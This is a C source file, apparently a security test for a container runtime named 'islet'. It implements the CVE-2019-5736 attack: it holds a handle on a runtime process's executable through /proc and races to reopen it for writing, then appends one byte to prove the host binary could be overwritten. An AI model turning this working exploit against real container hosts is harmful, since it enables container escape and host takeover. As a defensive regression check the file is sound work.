/*
 * exe_race: the CVE-2019-5736 attack, as a container process holding
 * CAP_SYS_PTRACE would run it. Takes a handle (O_PATH) on the executable of
 * a process running islet's code, then keeps reopening it for writing
 * through /proc/self/fd/N until ETXTBSY ends, and appends to it.
 *
 *   exe_race PID SECONDS     the executable of PID (retried until it opens)
 *   exe_race islet SECONDS   of every other process whose exe names "islet"
 *
 * Prints "held <exe>" for each handle as soon as it has it, "wrote <exe>" and
 * exits 0 when a write went through (the attack worked); at the deadline
 * prints "done held=N last=<errno text>" and exits 1.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 64

static int held[MAX_HELD];
static pid_t held_pid[MAX_HELD];
static int n_held;

static int already(pid_t pid) {
    for (int i = 0; i < n_held; i++)
        if (held_pid[i] == pid) return 1;
    return 0;
}

static void take(pid_t pid) {
    char path[64], link[512];
    if (n_held == MAX_HELD || already(pid)) return;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0) return;
    ssize_t n = readlink(path, link, sizeof link - 1);
    link[n > 0 ? n : 0] = 0;
    held[n_held] = fd;
    held_pid[n_held++] = pid;
    printf("held %s\n", link);
    fflush(stdout);
}

static void scan_islet(void) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    if (!d) return;
    while ((e = readdir(d))) {
        char path[64], link[512];
        pid_t pid = atoi(e->d_name);
        if (pid <= 0 || pid == getpid() || already(pid)) continue;
        snprintf(path, sizeof path, "/proc/%d/exe", pid);
        ssize_t n = readlink(path, link, sizeof link - 1);
        if (n <= 0) continue;
        link[n] = 0;
        if (strstr(link, "islet")) take(pid);
    }
    closedir(d);
}

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: exe_race PID|islet SECONDS\n");
        return 2;
    }
    int scan = strcmp(argv[1], "islet") == 0;
    time_t end = time(NULL) + atoi(argv[2]);
    int last = 0;
    while (time(NULL) < end) {
        if (scan)
            scan_islet();
        else if (!n_held)
            take(atoi(argv[1]));
        for (int i = 0; i < n_held; i++) {
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
            int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
            if (w < 0) {
                last = errno;
                continue;
            }
            if (write(w, "#", 1) == 1) {
                printf("wrote pid %d\n", held_pid[i]);
                return 0;
            }
            last = errno;
            close(w);
        }
        usleep(1000);
    }
    printf("done held=%d last=%s\n", n_held, last ? strerror(last) : "none");
    return 1;
}
